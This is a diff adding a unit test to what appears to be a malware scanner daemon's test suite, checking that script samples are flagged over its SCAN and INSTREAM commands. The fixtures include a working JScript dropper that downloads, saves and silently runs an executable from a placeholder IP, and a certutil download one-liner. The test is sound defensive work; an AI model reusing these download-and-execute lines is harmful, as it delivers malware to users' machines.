@@ -236,6 +236,22 @@ TEST_F(Mamorid, OverMaxFileSizeIsFoundNeverSilentlyOk) {
   EXPECT_NE(d_->log().find("Mamori.Limits.Exceeded.FileSize FOUND"), std::string::npos);
 }
 
+TEST_F(Mamorid, ScriptsAreScoredBySCANAndINSTREAM) {
+  // A JScript dropper (typed as a script from its content) and a one-line batch file that only its .cmd name makes a
+  // script: SCAN has the path and scores both; an INSTREAM has no name, so only the first.
+  const std::string js = "var s = new ActiveXObject('WScript.Shell'); var x = new ActiveXObject('MSXML2.XMLHTTP');\n"
+                         "x.open('GET', 'http://198.51.100.7/a.exe', false); x.send();\n"
+                         "var b = new ActiveXObject('ADODB.Stream'); b.Open(); b.Type = 1; b.Write(x.responseBody);\n"
+                         "b.SaveToFile('C:\\\\Users\\\\Public\\\\a.exe', 2); s.Run('C:\\\\Users\\\\Public\\\\a.exe', 0);\n";
+  const std::string cmd = "certutil -urlcache -split -f http://198.51.100.7/p.txt p.exe\r\n";
+  const auto pj = write("invoice.js", js);
+  const auto pc = write("go.cmd", cmd);
+  EXPECT_EQ(d_->ask("zSCAN " + pj.string() + '\0'), pj.string() + ": Mamori.Script.DownloadExecute FOUND\0"s);
+  EXPECT_EQ(d_->ask("zSCAN " + pc.string() + '\0'), pc.string() + ": Mamori.Script.CertutilDownload FOUND\0"s);
+  EXPECT_EQ(d_->ask(instream(js)), "stream: Mamori.Script.DownloadExecute FOUND\0"s);
+  EXPECT_EQ(d_->ask(instream(cmd)), "stream: OK\0"s);
+}
+
 TEST_F(Mamorid, ScanOfPathsFilesFoldersAndErrors) {
   const auto p = write("notes.txt", "hello");
   EXPECT_EQ(d_->ask("zSCAN " + p.string() + '\0'), p.string() + ": OK\0"s);
